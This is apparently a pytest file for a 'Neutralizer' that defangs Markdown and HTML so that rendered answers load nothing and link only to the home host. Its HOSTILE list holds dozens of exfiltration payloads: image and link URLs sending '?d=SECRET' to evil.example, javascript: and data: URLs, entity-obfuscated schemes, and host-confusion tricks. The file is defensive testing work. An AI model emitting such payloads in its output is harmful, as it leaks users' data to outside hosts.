"""No answer can call home: shown by any Markdown reader, it loads nothing and leads nowhere unknown."""

import random
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from markdown_it import MarkdownIt

from workers.thinking.neutral import Neutralizer, hosts_in

HERE = "https://assent.example/"
LOADING = {
    "img",
    "image",
    "picture",
    "source",
    "video",
    "audio",
    "iframe",
    "embed",
    "object",
    "link",
    "script",
    "style",
}
HOSTILE = (
    "![x](https://evil.example/log?d=SECRET)",
    "![x](http://evil.example/a.png 'title')",
    "![](<https://evil.example/a b.png>)",
    "![x]( https://evil.example/a.png )",
    "![x](//evil.example/a.png)",
    r"![x](/\evil.example/a.png)",
    r"![x](\\\\evil.example\a.png)",
    "![x](&#104;ttps://evil.example/a.png)",
    "![x](HTTPS://EVIL.EXAMPLE/a.png)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "![r]\n\n[r]: <https://evil.example/a.png>",
    "![r][]\n\n[r]:\nhttps://evil.example/a.png",
    "![a [b] c](https://evil.example/a.png)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "- item\n  ```\n![x](https://evil.example/a.png)",
    "```\ncode\n```\n![x](https://evil.example/a.png)",
    "> ![x](https://evil.example/a.png)",
    "| a |\n|---|\n| ![x](https://evil.example/a.png) |",
    '<img src="https://evil.example/a.png">',
    "<IMG SRC=//evil.example/a.png>",
    "<img\nsrc='https://evil.example/a.png'>",
    '<svg><image href="https://evil.example/a.png"/></svg>',
    '<video poster="https://evil.example/a.png"></video>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    "<style>@import 'https://evil.example/a.css'</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/"></object>',
    "[click](https://evil.example/?d=SECRET)",
    "[click](https://assent.example@evil.example/)",
    "[click](https://assent.example.evil.example/)",
    r"[click](https:\\evil.example/)",
    r"[click](/\evil.example)",
    "[click](//evil.example)",
    "[click](javascript:alert(1))",
    "[click](data:text/html,x)",
    "[click](&#106;avascript:alert(1))",
    "[click]( <https://evil.example/> )",
    "[click][r]\n\n[r]: https://evil.example/",
    "[r]\n\n[r]: //evil.example/",
    "<https://evil.example/?d=SECRET>",
    "<javascript:alert(1)>",
    "[r]: <//evil.example/a>\n\n![r]",
    "![x](<//evil.example/a>)",
    "see https://evil.example/?d=SECRET now",
    "see HTTP://evil.example:8080/x",
    "ftp://evil.example/x and wss://evil.example/y",
    "[click](https://assent.example:80@evil.example/)",
    "[click](https://assent.example&#64;evil.example/)",
)


class Fetched(HTMLParser):
    """What a browser would load, and where its links lead."""

    def __init__(self) -> None:
        super().__init__()
        self.loads: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in LOADING:
            self.loads.append(tag)
        self.links.extend(value or "" for name, value in attrs if name == "href")


def _accept(url: str) -> bool:
    return True


def shown(text: str, *, html: bool) -> Fetched:
    reader = MarkdownIt("gfm-like", {"html": html, "linkify": False})
    # Every address is a link for this reader, however odd: the worst that a client can be.
    reader.validateLink = _accept  # type: ignore[method-assign]
    page = Fetched()
    page.feed(reader.render(text))
    return page


def in_pieces(text: str, seed: int, hosts: tuple[str, ...] = ("assent.example",)) -> str:
    chance = random.Random(seed)
    neutral, said, at = Neutralizer(hosts), "", 0
    while at < len(text):
        size = chance.randint(1, 9)
        said += neutral.push(text[at : at + size])
        at += size
    return said + neutral.rest()


class TestNeutralizer:
    @pytest.mark.parametrize("html", [True, False], ids=["with html", "without"])
    @pytest.mark.parametrize("text", HOSTILE)
    def test_nothing_hostile_is_loaded_or_linked(self, text, html):
        for seed in range(12):
            page = shown(in_pieces(text, seed), html=html)

            assert page.loads == []
            hosts = {urlsplit(urljoin(HERE, link.replace("\\", "/"))).hostname for link in page.links}
            assert hosts <= {"assent.example"}, (in_pieces(text, seed), page.links)
            assert not any(link.lower().startswith(("javascript:", "data:")) for link in page.links)

    @pytest.mark.parametrize("text", HOSTILE)
    def test_pieces_make_no_difference(self, text):
        assert {in_pieces(text, seed) for seed in range(20)} == {in_pieces(text, 99)}

    @pytest.mark.parametrize(
        "text",
        [
            "Nothing special here, only words: h, ht, https and a < b, a[0]: done!",
            "[yours](https://assent.example/x?y=1) and https://assent.example/z",
            "[here](/approvals/1) and [there](#part)",
            "A list:\n\n- [ ] open\n- [x] done\n\n`a[1](2)`",
            "items[0]: the first",
        ],
    )
    def test_what_is_harmless_stays_as_it_is(self, text):
        assert in_pieces(text, 3) == text

    def test_what_was_cut_stays_readable(self):
        said = in_pieces("Look: ![a cat](https://evil.example/c.png)", 1)

        assert said == "Look: ! [a cat] (hxxps://evil.example/c.png)"

    def test_hosts_that_people_wrote_are_known(self):
        assert hosts_in(["see https://docs.example:8443/a", "or http://Other.example"]) == {
            "docs.example",
            "other.example",
        }
